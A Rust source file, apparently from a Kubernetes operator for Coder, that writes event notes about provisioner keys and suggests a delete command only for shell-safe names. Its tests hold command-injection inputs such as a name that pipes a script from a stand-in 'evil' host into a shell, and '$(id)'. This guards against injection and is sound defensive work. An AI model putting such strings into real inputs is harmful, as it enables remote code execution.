//! Decides what is told of a key that came, went or was left alone, which no condition shows. Of plaintexts it knows nothing.

use super::key::steps::Left;
use super::reasons::Reason;
use crate::kubernetes::events::{EventDraft, Severity};

/// Characters of the name of a key in coderd.
const LONGEST_NAME: usize = 64;

/// Something that was done about a key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum KeyEvent<'a> {
    /// It was made.
    Created(&'a str),
    /// It was deleted.
    Deleted(&'a str),
    /// It was left alone.
    Left(&'a Left),
}

impl KeyEvent<'_> {
    /// What there is to tell.
    pub(super) fn draft(&self) -> EventDraft {
        let (severity, reason, note) = match self {
            Self::Created(name) => (
                Severity::Normal,
                Reason::KeyCreated,
                format!("provisioner key {name} was created in coderd"),
            ),
            Self::Deleted(name) => (
                Severity::Normal,
                Reason::KeyDeleted,
                format!("provisioner key {name} was deleted in coderd"),
            ),
            Self::Left(Left::Taken(name)) => (
                Severity::Warning,
                Reason::KeyNameTaken,
                format!(
                    "coderd already has a provisioner key {name} that this object does not own; using the next number. To \
                     replace that key, set the annotation coder.com/adopt-key: {name}"
                ),
            ),
            Self::Left(Left::MoreTaken(number)) => (
                Severity::Warning,
                Reason::KeyNameTaken,
                format!(
                    "coderd has {number} more provisioner keys of the names that would be next; they are left alone"
                ),
            ),
            Self::Left(Left::Behind(name)) => (Severity::Warning, Reason::KeyLeftBehind, behind(name)),
            Self::Left(Left::Unproven(name)) => (
                Severity::Warning,
                Reason::KeyLeftBehind,
                format!(
                    "provisioner key {} was named by the status, and the operator cannot prove that it made it; if coderd has it, \
                     it was left there. Find out whose it is before you delete it",
                    beginning(name)
                ),
            ),
            Self::Left(Left::WithOrganization(name)) => (
                Severity::Normal,
                Reason::KeyDeleted,
                format!("provisioner key {name} is gone with its organization, which was deleted in coderd"),
            ),
        };
        EventDraft { severity, reason: reason.to_string(), action: "ProvisionerKey".to_owned(), note }
    }
}

/// What is said of a key of ours that stays. The command is for a name that a shell takes as it stands.
fn behind(name: &str) -> String {
    let mut letters = name.bytes();
    let is_plain = letters.next().is_some_and(|first| first.is_ascii_alphanumeric())
        && letters.all(|one| one.is_ascii_alphanumeric() || b"._-".contains(&one));
    if is_plain {
        format!(
            "provisioner key {name} was left in coderd; if nobody uses it, run coder provisioner keys delete {name}"
        )
    } else {
        format!("provisioner key {} was left in coderd; if nobody uses it, delete it there", beginning(name))
    }
}

/// As much of a name as coderd keeps: whoever may write a status may write a longer one.
fn beginning(name: &str) -> String {
    name.chars().take(LONGEST_NAME).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_key_that_was_left_is_a_warning_that_names_it_and_what_to_do() {
        assert_eq!(KeyEvent::Created("a").draft().severity, Severity::Normal);
        let name = || "builders".to_owned();
        for left in [Left::Taken(name()), Left::Behind(name()), Left::Unproven(name())] {
            let draft = KeyEvent::Left(&left).draft();
            assert_eq!(draft.severity, Severity::Warning);
            assert!(draft.note.contains("builders"), "{}", draft.note);
        }
    }

    #[test]
    fn nobody_is_told_to_run_a_name_that_somebody_chose() {
        let told = |left: Left| KeyEvent::Left(&left).draft().note;
        assert!(told(Left::Behind("builders-2".to_owned())).ends_with("keys delete builders-2"));
        for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b"] {
            let note = told(Left::Behind(name.to_owned()));
            assert!(note.ends_with("delete it there"), "{note}");
        }
        let unproven = told(Left::Unproven("victim".to_owned()));
        assert!(
            unproven.contains("provisioner key victim ") && !unproven.contains("coder provisioner keys"),
            "{unproven}"
        );
        assert!(told(Left::Unproven("x".repeat(5000))).len() < 300, "it is cut before what to do is");
    }
}
